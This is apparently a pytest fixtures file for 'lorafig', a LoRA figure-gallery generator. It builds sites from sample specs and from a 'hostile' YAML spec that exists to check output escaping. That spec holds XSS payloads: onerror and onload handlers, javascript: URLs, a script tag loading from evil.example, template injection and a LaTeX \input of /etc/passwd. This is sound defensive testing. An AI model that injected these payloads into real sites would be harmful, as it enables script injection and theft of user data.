"""The site of the real gallery, built once by the real command; and the command itself."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from lorafig import cli
from lorafig.site.gallery.build import specs
from tests.conftest import Once

ENVIRONMENT = os.environ | {"PYTHONPATH": str(Path(cli.__file__).parents[2])}


@dataclass(frozen=True)
class Result:
    status: int
    out: str
    err: str


Gallery = Callable[..., Result]
SPECS = {Path(path).stem: path for path in specs([])}
# What the tests of the site look for on it: a sample has these figures, of more than forty.
LOOKED_FOR = frozenset([
    "lora-reparametrization", "lora-two-panel", "lora-visualizer", "lora-flow", "lora-pipeline",
    "lora-pipeline-zh", "lora-dora", "lora-qlora", "lora-rslora", "lora-vera", "loftq", "ia3",
])  # fmt: skip


def _names(config: pytest.Config) -> list[str]:
    return [name for name in SPECS if name in LOOKED_FOR or not config.getoption("--sample")]


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    """A test of each figure's page takes its `figure`."""
    if "figure" in metafunc.fixturenames:
        metafunc.parametrize("figure", _names(metafunc.config))


def run(*arguments: str, cwd: Path, **environment: str) -> Result:
    """`lorafig gallery ARGUMENTS` in a folder."""
    code = "from lorafig.cli import main; main()"
    found = subprocess.run(
        [sys.executable, "-c", code, "gallery", *arguments],
        cwd=cwd, env=ENVIRONMENT | environment, capture_output=True, text=True, encoding="utf-8", check=False,
    )  # fmt: skip
    return Result(found.returncode, found.stdout, found.stderr)


@pytest.fixture
def gallery(tmp_path: Path) -> Gallery:
    """Runs the command in an empty folder."""

    def call(*arguments: str, **environment: str) -> Result:
        return run(*arguments, cwd=tmp_path, **environment)

    return call


@pytest.fixture(scope="session")
def names(request: pytest.FixtureRequest) -> list[str]:
    """The figures of the site, in its order."""
    return _names(request.config)


@pytest.fixture(scope="session")
def site(built_once: Once, names: list[str]) -> Path:
    """The site of the gallery that lorafig comes with. Tests look at it and leave it as it is."""
    paths = [] if len(names) == len(SPECS) else [SPECS[name] for name in names]

    def make(folder: Path) -> None:
        assert run(*paths, "-o", "site", "--jobs", "2", cwd=folder) == Result(0, "site/index.html\n", "")

    return built_once("gallery", make) / "site"


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of a figure whose every text means harm."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.yaml").write_text(HOSTILE, encoding="utf-8")
    result = run("hostile.yaml", "-o", "site", cwd=folder)
    assert result == Result(0, "site/index.html\n", "")
    return folder / "site"


def files(folder: Path) -> dict[str, bytes]:
    """All files below a folder by path."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


TRUE = """\
id: small
title: Small
model: {d: 64, r: 4}
stack:
  - bar: x
  - split:
      - square: W
      - bottleneck: [A, B]
        brace: r
  - sum: [Wx, BAx]
  - bar: h
"""
FALSE = TRUE.replace("[A, B]", "[B, A]").replace("small", "untrue")
# What is in it is written to end an attribute, an element, a script, a comment or a Markdown block.
HARM = "</script><img src=x onerror=stolen()><script>stolen()//"
HOSTILE = f"""\
# --> {HARM} ]]> </code></pre></textarea></style></title> &lt;b&gt;
id: hostile
title: '{HARM} "onmouseover="stolen()" &amp; ''quoted'' </title> {{{{ 7 * 7 }}}} $W$'
about:
  after: '<img src=x onerror=stolen()>'
  shows: 'A square </script>{HARM} <!-- "> [x](javascript:stolen()) ![](x) `code` **bold**'
  tags: ['"><img src=x onerror=stolen()>', 'javascript:stolen()', 'a#b&c=d+e %41', '{HARM}', "it's"]
  domain: '{HARM}'
  venue: ['<svg onload=stolen()>']
  when: '{HARM} | not a table | # not a heading'
  adapt: '</p><iframe src=javascript:stolen()>'
  concepts: ['</li></ul>{HARM}', 'data:text/html,{HARM}']
  license: '"><script src=//evil.example/x.js>'
  author: 'O''Brien <o@brien.example>'
  requires: ['\\\\input{{/etc/passwd}}']
model: {{d: 64, r: 4}}
stack:
  - bar: x
  - split:
      - square: W
        text: ['W trains {HARM} by 7 parameters']
        unverified: '</td>{HARM} $W$'
      - bottleneck: [A, B]
  - sum: [Wx, BAx]
  - bar: h
caption: '</svg>{HARM}'
unverified: '{HARM}'
"""
